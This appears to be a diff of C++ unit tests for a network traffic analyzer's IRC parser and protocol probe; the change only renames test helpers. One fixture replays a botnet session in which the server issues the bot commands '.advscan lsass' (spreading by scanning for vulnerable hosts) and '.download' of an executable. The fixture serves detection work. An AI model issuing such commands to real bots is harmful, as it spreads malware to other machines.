@@ -8,13 +8,13 @@ using namespace metsuke;
 
 namespace {
 
-RecordingHost run(const std::vector<Turn>& turns, size_t chunk = 1 << 20) {
+RecordingHost runIrc(const std::vector<Turn>& turns, size_t chunk = 1 << 20) {
     RecordingHost host;
     IrcParser parser;
     play(parser, host, turns, chunk);
     return host;
 }
-ProbeResult probe(std::string_view orig, std::string_view resp = {}) { return probeIrc({asBytes(orig), asBytes(resp), 1, 6667}); }
+ProbeResult probeAs(std::string_view orig, std::string_view resp = {}) { return probeIrc({asBytes(orig), asBytes(resp), 1, 6667}); }
 
 } // namespace
 
@@ -23,9 +23,9 @@ TEST(IrcParser, BotSession_isToldCommandByCommand) {
         fromServer(":srv NOTICE AUTH :*** hello\r\n:srv 001 [USA|XP]123456 :welcome\r\nPING :x\r\n"), fromClient("PONG :x\r\nJOIN #own key\r\n"),
         fromServer(":srv 332 [USA|XP]123456 #own :.advscan lsass 100 5 0 -r\r\n:boss!a@b PRIVMSG #own :.download http://x/a.exe c:\\a.exe 1\r\n"),
         fromClient("PRIVMSG boss :\x01" "DCC SEND a.exe 1 2 3\x01\nQUIT")};
-    const auto host = run(turns);
+    const auto host = runIrc(turns);
     for (const size_t chunk : {1U, 3U, 17U}) {
-        EXPECT_EQ(fingerprint(run(turns, chunk)), fingerprint(host));
+        EXPECT_EQ(fingerprint(runIrc(turns, chunk)), fingerprint(host));
     }
     const auto events = host.of<IrcEvent>();
     ASSERT_EQ(events.size(), 7U);
@@ -45,11 +45,11 @@ TEST(IrcParser, BotSession_isToldCommandByCommand) {
 }
 
 TEST(IrcProbe, Content_decidesNotPort) {
-    EXPECT_EQ(probe("NICK a\r\n"), ProbeResult::Yes);
-    EXPECT_EQ(probe("PASS x\r\nNICK a\r\n"), ProbeResult::Yes);
-    EXPECT_EQ(probe("USER a b c :d\n"), ProbeResult::Yes);
-    EXPECT_EQ(probe("", ":irc.x NOTICE * :*** Looking up\r\n"), ProbeResult::Yes);
-    EXPECT_EQ(probe("USER anonymous\r\n"), ProbeResult::Maybe);
-    EXPECT_EQ(probe("GET / HTTP/1.1\r\n"), ProbeResult::No);
-    EXPECT_EQ(probe("EHLO x\r\n", "220 mail ESMTP\r\n"), ProbeResult::No);
+    EXPECT_EQ(probeAs("NICK a\r\n"), ProbeResult::Yes);
+    EXPECT_EQ(probeAs("PASS x\r\nNICK a\r\n"), ProbeResult::Yes);
+    EXPECT_EQ(probeAs("USER a b c :d\n"), ProbeResult::Yes);
+    EXPECT_EQ(probeAs("", ":irc.x NOTICE * :*** Looking up\r\n"), ProbeResult::Yes);
+    EXPECT_EQ(probeAs("USER anonymous\r\n"), ProbeResult::Maybe);
+    EXPECT_EQ(probeAs("GET / HTTP/1.1\r\n"), ProbeResult::No);
+    EXPECT_EQ(probeAs("EHLO x\r\n", "220 mail ESMTP\r\n"), ProbeResult::No);
 }
